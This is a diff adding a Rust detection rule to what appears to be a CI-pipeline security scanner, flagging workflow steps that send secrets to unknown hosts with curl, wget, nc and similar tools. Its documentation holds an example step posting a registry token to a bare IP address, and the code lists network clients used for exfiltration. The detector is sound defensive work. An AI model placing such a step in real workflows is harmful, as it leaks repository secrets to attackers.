@@ -1,0 +1,202 @@
+use lockgate_evidence::{Confidence, Finding, Severity, rule};
+use lockgate_pipelines::model::Run;
+use lockgate_pipelines::shell::{Command, Script, Word};
+
+use crate::context::Context;
+use crate::data::hosts::{COLLECTING_HOSTS, TRUSTED_HOSTS, is_below};
+use crate::spots::{ScriptSecrets, listed};
+
+rule! {
+    /// # What it finds
+    ///
+    /// A script that sends secrets with `curl`, `wget` or their kin to a host that is written out and is not a well-known
+    /// service: hosts that collect what is sent to them, bare addresses, several secrets at once, or a secret without
+    /// encryption. Hosts that come from variables, the own machine and one secret sent by HTTPS in a header, as every
+    /// deployment does, are left out.
+    ///
+    /// # Why it matters
+    ///
+    /// In the GhostAction campaign of September 2025 a workflow was pushed to hundreds of repositories that sent their
+    /// secrets with one `curl` to a bare address; over three thousand secrets were lost. The severity is critical for hosts
+    /// that collect, high for bare addresses and for several secrets at once, and medium for a secret without encryption. The
+    /// confidence is medium, and low for several secrets, because a service of one's own looks the same.
+    ///
+    /// # Bad
+    ///
+    /// ```yaml
+    /// on: push
+    /// jobs:
+    ///   sync:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: curl -d "token=${{ secrets.REGISTRY_TOKEN }}" http://192.0.2.7/
+    /// ```
+    ///
+    /// # Good
+    ///
+    /// ```yaml
+    /// on: push
+    /// jobs:
+    ///   sync:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: curl --config - https://api.example.com/sync < "$RUNNER_TEMP/header"
+    /// ```
+    ///
+    /// # How to fix
+    ///
+    /// Find out who wrote the line. Where it is not yours, change every secret of the repository; where it is, send the one
+    /// secret that the service needs, by HTTPS, to a name.
+    ///
+    /// # References
+    ///
+    /// - The GhostAction campaign, GitGuardian, 2025
+    Workload "workload/secret-egress": "secrets are sent to a host nobody knows", High, Medium
+}
+
+const CLIENTS: &[&str] = &[
+    "curl",
+    "http",
+    "https",
+    "httpie",
+    "invoke-restmethod",
+    "invoke-webrequest",
+    "irm",
+    "iwr",
+    "nc",
+    "ncat",
+    "wget",
+    "xh",
+];
+
+pub(super) fn check(cx: &Context<'_>, out: &mut Vec<Finding>) {
+    let Some(pipeline) = cx.pipeline() else {
+        return;
+    };
+    let text = pipeline.source.text();
+    if !text.contains("secrets") && !text.contains("github.token") {
+        return;
+    }
+    for (place, job, step) in cx.steps() {
+        let Some(run) = step.run() else { continue };
+        let lower = run.script.value().to_ascii_lowercase();
+        if !CLIENTS.iter().any(|client| lower.contains(client)) {
+            continue;
+        }
+        let script = run.parsed(pipeline.shell_of(job, step));
+        let secrets = ScriptSecrets::of(&place, run, script);
+        if secrets.is_empty() {
+            continue;
+        }
+        for index in 0..script.commands.len() {
+            out.extend(command(cx, run, script, index, &secrets));
+        }
+    }
+}
+
+fn command(
+    cx: &Context<'_>,
+    run: &Run,
+    script: &Script,
+    index: usize,
+    secrets: &ScriptSecrets,
+) -> Option<Finding> {
+    let command = script.commands.get(index)?;
+    let client = command
+        .effective()
+        .filter(|command| CLIENTS.contains(&command.name.as_str()))?;
+    let sent = sent(script, index, secrets);
+    let first = sent.first()?;
+    let (host, encrypted) = host(command, &client.name)?;
+    if is_below(&host, TRUSTED_HOSTS) || is_here(&host) {
+        return None;
+    }
+    let names: Vec<&str> = sent.iter().map(String::as_str).collect();
+    let (severity, confidence, why) = match () {
+        () if is_below(&host, COLLECTING_HOSTS) => (
+            Severity::Critical,
+            Confidence::Medium,
+            ", which collects what is sent to it",
+        ),
+        () if is_bare(&host) => (
+            Severity::High,
+            Confidence::Medium,
+            ", an address without a name",
+        ),
+        () if sent.len() > 2 => (Severity::High, Confidence::Low, ""),
+        () if !encrypted => (Severity::Medium, Confidence::Medium, " without encryption"),
+        () => return None,
+    };
+    let what = if sent.len() == 1 {
+        format!("`{first}`")
+    } else {
+        listed(&names)
+    };
+    let message = format!("`{}` sends {what} to `{host}`{why}", client.name);
+    let finding = cx.finding(&RULE, run.script.locate(command.span), message);
+    Some(finding.severity(severity).confidence(confidence))
+}
+
+/// The secrets in a command's words and in what is printed into it, each once.
+fn sent(script: &Script, index: usize, secrets: &ScriptSecrets) -> Vec<String> {
+    let before = (0..index).filter(|&other| script.downstream(other).any(|reader| reader == index));
+    let commands = before
+        .chain([index])
+        .filter_map(|at| script.commands.get(at));
+    let mut found: Vec<String> = Vec::new();
+    for command in commands {
+        let bodies = command
+            .redirects
+            .iter()
+            .filter_map(|redirect| redirect.heredoc.as_ref());
+        let words = command
+            .args
+            .iter()
+            .chain(bodies.map(|heredoc| &heredoc.body));
+        for word in words {
+            for secret in secrets.all_in_word(word) {
+                if !found.contains(&secret) {
+                    found.push(secret);
+                }
+            }
+        }
+    }
+    found
+}
+
+/// The host that is written out, and whether the way there is encrypted.
+fn host(command: &Command, client: &str) -> Option<(String, bool)> {
+    if matches!(client, "nc" | "ncat") {
+        let words = command.args.iter().filter_map(Word::literal);
+        let host = words
+            .into_iter()
+            .find(|word| word.contains('.') && !word.starts_with('-'))?;
+        return Some((host, false));
+    }
+    command.args.iter().find_map(|word| {
+        let (scheme, rest) = word.text.trim_matches(['"', '\'']).split_once("://")?;
+        let scheme = scheme.rsplit(['"', '\'', '=']).next().unwrap_or(scheme);
+        let end = rest.find(['/', '?', '"', '\'', '#']).unwrap_or(rest.len());
+        let authority = rest.get(..end)?;
+        let host = authority
+            .rsplit_once('@')
+            .map_or(authority, |(_, host)| host);
+        let host = host.split_once(':').map_or(host, |(host, _)| host);
+        let literal = !host.is_empty() && !host.contains(['$', '{', '(', '%', '`']);
+        let header = word.text.contains("eferer") || word.text.contains("rigin:");
+        (literal && !header).then(|| (host.to_ascii_lowercase(), scheme != "http"))
+    })
+}
+
+fn is_here(host: &str) -> bool {
+    matches!(host, "localhost" | "0.0.0.0" | "host.docker.internal")
+        || host.starts_with("127.")
+        || host.starts_with("10.")
+        || host.starts_with("192.168.")
+        || host.starts_with("169.254.")
+        || !host.contains('.')
+}
+
+fn is_bare(host: &str) -> bool {
+    host.split('.').count() == 4 && host.split('.').all(|part| part.parse::<u8>().is_ok())
+}
